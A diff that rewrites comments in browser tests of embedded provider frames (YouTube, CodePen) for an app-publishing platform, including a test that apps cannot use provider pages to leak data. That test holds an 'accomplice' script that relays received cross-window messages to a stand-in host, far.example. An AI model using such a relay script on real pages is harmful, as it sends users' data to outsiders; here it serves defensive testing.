@@ -1,4 +1,7 @@
-/** Frames of known providers, in published and embedded apps, in exported files, and as a way out of an app. */
+/**
+ * Tests frames of known providers, such as YouTube, in published and embedded apps and in exported files. An app must
+ * not use them to send data out.
+ */
 import { writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { listenOnLoopback } from '@buidl/local-cloud/wire/listen-on-loopback';
@@ -41,7 +44,7 @@ test.beforeAll(async ({ cloud }) => {
   owner = await signUpUser(cloud.api, 'frame_owner');
 });
 
-/** Answers for the providers and returns the addresses that a browser requested. */
+/** Responds in place of the providers. Returns the URLs that a browser requested from them. */
 async function answerProviders(context: BrowserContext, body = '<h1>The provider</h1>'): Promise<string[]> {
   const requested: string[] = [];
   await context.route(PROVIDERS, (route) => {
@@ -54,11 +57,11 @@ async function answerProviders(context: BrowserContext, body = '<h1>The provider
 const publish = (cloud: Parameters<typeof publishDocument>[0], name: string, html = HTML) =>
   publishDocument(cloud, { ownerPublicKey: owner.publicKey, name, html });
 
-/** Returns the provider's frame in the panel. */
+/** Returns the frame of the provider's page in the panel above the app. */
 const providerIn = (page: Page | FrameLocator) =>
   page.locator('.app-provider').frameLocator('iframe').frameLocator('iframe');
 
-/** Returns how many frames the app finds in the windows around it. */
+/** Returns the numbers of frames that the app finds in its own window and in the top window. */
 const foundFrames = (app: Frame) => app.evaluate(() => [window.length, window.top?.length]);
 
 test('a visitor sees the video of a known provider after the consent, above the app, and can close it', async ({
@@ -71,7 +74,7 @@ test('a visitor sees the video of a known provider after the consent, above the 
   const app = await openApp(page, pageUrl);
   const show = app.getByRole('button', { name: 'Show YouTube' });
   const [card, around] = [app.locator('[data-buidl-frame]').first(), app.locator('.wide')];
-  // The card has the size that a style sheet gives the frame.
+  // The placeholder card has the size that the app's style sheet gives to the frame.
   await expect(show).toBeVisible();
   expect(await card.boundingBox()).toEqual(await around.boundingBox());
   expect(await app.locator('iframe').count()).toBe(0);
@@ -90,7 +93,7 @@ test('a visitor sees the video of a known provider after the consent, above the 
   expect((shown?.y ?? 0) + (shown?.height ?? 0)).toBeLessThanOrEqual(bar?.y ?? 0);
   await panel.getByRole('button', { name: 'Close' }).click();
   await expect(panel).toBeHidden();
-  // The visitor has agreed to this address before.
+  // The visitor has already consented to this video, so the page does not ask again.
   await show.click();
   await expect(providerIn(page).getByRole('heading', { name: 'The provider' })).toBeVisible();
   await page.keyboard.press('Escape');
@@ -149,7 +152,8 @@ test('an exported file shows the page of a provider after a click', async ({ pag
 });
 
 test('an app cannot use the page of a provider as a way out', async ({ page, context, cloud }) => {
-  // A page of the app's maker at a provider answers every message and looks for the app.
+  // The app's author controls a page at the provider. The page sends messages to all windows that it finds, and
+  // forwards each received message.
   const accomplice = `<script>
     onmessage = ({ data }) => { new Image().src = 'https://far.example/?heard=' + encodeURIComponent(JSON.stringify(data)); };
     for (const window of [parent, parent.parent, top]) {
@@ -172,13 +176,13 @@ test('an app cannot use the page of a provider as a way out', async ({ page, con
     };</script></html>`;
   const { pageUrl } = await publish(cloud, 'frames-spy', html);
   let app = await openApp(page, pageUrl);
-  // Neither a provider's page nor the page that shows it loads in the frame of the app.
+  // The app's frame can load neither a page of the provider nor the site's own page for such frames.
   for (const address of ['https://codepen.io/ada/embed/abcXYZ?secret=2', `${cloud.siteUrl}/provider/index.html`]) {
     await app.evaluate((to) => Reflect.get(window, 'leave')(to), address).catch(() => undefined);
     await expect.poll(async () => (await openApp(page, pageUrl)).url()).toMatch(/\/live\//);
     app = await openApp(page, pageUrl);
   }
-  // Without a click, nothing is asked.
+  // Before a click on the card, nothing is requested from the provider.
   await app.getByRole('heading').click();
   expect(requested).toEqual([]);
   await app.getByRole('button', { name: 'Show CodePen' }).click();
